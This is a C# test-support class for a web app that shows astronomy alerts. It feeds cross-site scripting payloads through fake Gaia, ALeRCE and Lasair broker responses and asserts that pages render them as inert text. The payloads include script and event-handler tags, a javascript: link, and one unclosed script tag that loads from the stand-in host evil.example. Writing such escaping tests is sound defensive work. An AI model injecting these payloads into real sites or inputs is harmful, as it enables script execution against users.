using System.Text.Json.Nodes;
using TomAlerts.Web.Tests.Support;

namespace TomAlerts.Web.Tests.Security;

/// <summary>
/// Brokers that send markup and script wherever they send text: names, classifications, comments, aliases, links,
/// error bodies and feedback. Every page that shows it must show it as text.
/// </summary>
public static class HostileBroker
{
    public const string ScriptName = "<script>alert(1)</script>";
    public const string ImageClass = "<img src=x onerror=alert(2)>";
    public const string SvgComment = "\"><svg onload=alert(3)>";
    public const string ScriptAlias = "AT<script>alert(4)</script>";
    public const string JavascriptLink = "javascript:alert(5)";
    /// <summary>Survives a tag-stripper (no closing bracket), so it reaches error messages as it is.</summary>
    public const string OpenScriptTag = "<script src=//evil.example/x.js";
    public const string ScriptQueryName = "<script>alert(7)</script> query";

    /// <summary>What must never appear in a page: each payload as live markup.</summary>
    public static readonly string[] LiveMarkup =
    [
        "<script>alert(", "<img src=x onerror", "<svg onload", "href=\"javascript:", "<script src=//evil",
    ];

    /// <summary>Gaia's index with one alert whose every text field is hostile, and its light curve.</summary>
    public static FakeBrokerServer MapHostileGaia(this FakeBrokerServer server)
    {
        var alert = new JsonObject
        {
            ["name"] = ScriptName, ["tnsid"] = ScriptAlias, ["obstime"] = "2023-11-02 18:47:09", ["ra"] = "150.31578", ["dec"] = "2.20943",
            ["alertMag"] = "18.46", ["historicMag"] = "", ["historicStdDev"] = "", ["classification"] = ImageClass, ["published"] = "2023-11-05 11:02:37",
            ["comment"] = SvgComment, ["per_alert"] = new JsonObject { ["link"] = JavascriptLink, ["name"] = ScriptName }, ["rvs"] = false,
        };
        var page = $"<html><body><script>var alerts = [{alert.ToJsonString()}];</script></body></html>";
        server.MapText("/gaia/alerts/alertsindex", 200, page, "text/html");
        server.MapText("/gaia/alerts/alert/", 200, "x\n#Date,JD(TCB),averagemag\n2023-11-02 18:47:09,2460251.28274,18.46\n", "text/csv");
        return server;
    }

    /// <summary>ALeRCE failing with markup in its error body.</summary>
    public static FakeBrokerServer MapHostileAlerceError(this FakeBrokerServer server) =>
        server.MapText("/alerce/", 500, new JsonObject { ["message"] = $"<b>Internal</b> error {OpenScriptTag}" }.ToJsonString());

    /// <summary>Lasair finding nothing, so its feedback repeats the (hostile) SQL conditions.</summary>
    public static FakeBrokerServer MapEmptyLasair(this FakeBrokerServer server) => server.MapText("/lasair/api/", 200, "[]");

    public static void AssertInert(string url, string html)
    {
        foreach (var markup in LiveMarkup)
        {
            Assert.False(html.Contains(markup, StringComparison.OrdinalIgnoreCase), $"{url} contains live markup {markup}.");
        }
    }
}
